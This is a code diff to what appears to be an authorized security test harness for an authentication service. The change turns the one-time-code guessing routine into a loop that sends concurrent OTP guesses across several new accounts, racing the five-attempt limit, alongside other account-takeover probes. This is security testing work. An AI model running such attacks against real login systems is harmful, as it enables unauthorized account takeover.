@@ -12,6 +12,7 @@ const OTHER_PASSWORD = 'Angripare!77x';
 // A six-digit code allows five attempts.
 const BURST = 20;
 const RIGHT_AT = 9;
+const GUESSED_ACCOUNTS = 4;
 const MAIL_ARRIVES_MS = 2_000;
 
 const signUp = (target, email, password, name) =>
@@ -102,8 +103,18 @@ async function changePasswordByToken(target) {
   ];
 }
 
-/** [L4] Many concurrent codes: only the first five are checked. */
-async function guessCodes(target, { email }) {
+/**
+ * [L4] Many concurrent codes: only the first five are checked. Concurrent requests may arrive in another order, so the
+ * right code may be among them by chance, but not with one account after the other.
+ */
+async function guessCodes(target) {
+  for (let turn = 0; turn < GUESSED_ACCOUNTS; turn += 1) {
+    const found = (await guessCodesOf(target, await newPerson(target, 'codes'))).filter(Boolean);
+    if (found.length === 0 || turn === GUESSED_ACCOUNTS - 1) return found;
+  }
+}
+
+async function guessCodesOf(target, { email }) {
   await onceAllowed(() => as(target)('POST', '/auth/v1/otp', { email, create_user: false }));
   // The first email confirmed the account.
   const mail = await mailTo(target, email, ({ subject }, at) => at === 0 && !/Bekräfta/.test(subject));
@@ -182,7 +193,6 @@ export async function tryAccounts(target) {
   // Starts first, because an address gets one email per minute. The other attacks send no email.
   const beforehand = { email: newEmail('beforehand') };
   await signUp(target, beforehand.email, OTHER_PASSWORD, 'Attacker');
-  const codes = await newPerson(target, 'codes');
   const attacks = [
     enrolWithOneFactor,
     changePasswordByToken,
@@ -190,7 +200,7 @@ export async function tryAccounts(target) {
     signUpLookAlikes,
     postFromElsewhere,
     () => signUpLater(target, beforehand),
-    () => guessCodes(target, codes),
+    guessCodes,
   ];
   const found = [];
   for (const attack of attacks) found.push(...(await attack(target)).filter(Boolean));
